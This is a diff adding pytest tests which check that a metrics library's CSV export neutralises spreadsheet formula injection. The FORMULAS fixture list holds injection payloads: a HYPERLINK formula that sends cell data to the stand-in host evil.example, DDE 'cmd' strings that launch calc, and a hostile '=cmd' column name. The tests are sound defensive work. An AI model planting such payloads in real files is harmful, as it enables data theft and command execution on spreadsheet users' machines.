@@ -9,8 +9,10 @@ import struct
 import subprocess
 import sys
 import zlib
+from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -27,6 +29,7 @@ from closedloop.metrics import (
     write_csv,
     write_json,
 )
+from closedloop.metrics.tables import Cell
 from tests.unit.test_metrics_units import WEEK, run_week
 
 
@@ -131,3 +134,62 @@ def test_importing_the_metrics_loads_neither_matplotlib_nor_sqlalchemy() -> None
         "assert 'sqlalchemy' not in sys.modules, 'only reading a SQL store needs it'\n"
     )
     subprocess.run([sys.executable, "-c", code], check=True)
+
+
+class HostTable:
+    """A table of the host's own, exported through the public Tabular protocol."""
+
+    def __init__(self, columns: tuple[str, ...], rows: list[dict[str, Cell]]) -> None:
+        self.columns = columns
+        self.rows = rows
+
+    def records(self) -> Iterator[dict[str, Cell]]:
+        yield from self.rows
+
+    def describe(self) -> dict[str, Any]:
+        return {"title": "host table"}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "+86 138 1234 5678",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_text_that_would_run_as_a_formula_gets_a_quote_in_front(text: str) -> None:
+    table = HostTable(("group", "open"), [{"group": text, "open": 3}])
+    (row,) = csv.DictReader(io.StringIO(to_csv(table)))
+    assert row == {"group": "'" + text, "open": "3"}
+
+
+def test_numbers_stay_numbers_even_negative_ones() -> None:
+    rows: list[dict[str, Cell]] = [
+        {"group": "water", "hours": -12.5, "delta": -3, "text": "-3.5", "rate": None},
+        {"group": "roads", "hours": 0.25, "delta": 7, "text": "+1e3", "rate": 0.5},
+        {"group": "=1+1", "hours": float("-inf"), "delta": 0, "text": "-.5", "rate": 1.0},
+    ]
+    table = HostTable(("group", "hours", "delta", "text", "rate"), rows)
+    lines = to_csv(table).splitlines()
+    assert lines == [
+        "group,hours,delta,text,rate",
+        "water,-12.5,-3,-3.5,",
+        "roads,0.25,7,+1e3,0.5",
+        "'=1+1,'-inf,0,-.5,1.0",
+    ]
+
+
+def test_a_hostile_column_name_is_neutralised_too() -> None:
+    table = HostTable(("group", "=cmd"), [{"group": "water", "=cmd": 1}])
+    assert to_csv(table).splitlines() == ["group,'=cmd", "water,1"]
+
+
+def test_json_keeps_every_value_as_it_is() -> None:
+    table = HostTable(("group", "open"), [{"group": FORMULAS[0], "open": -1}])
+    assert json.loads(to_json(table))["rows"] == [{"group": FORMULAS[0], "open": -1}]
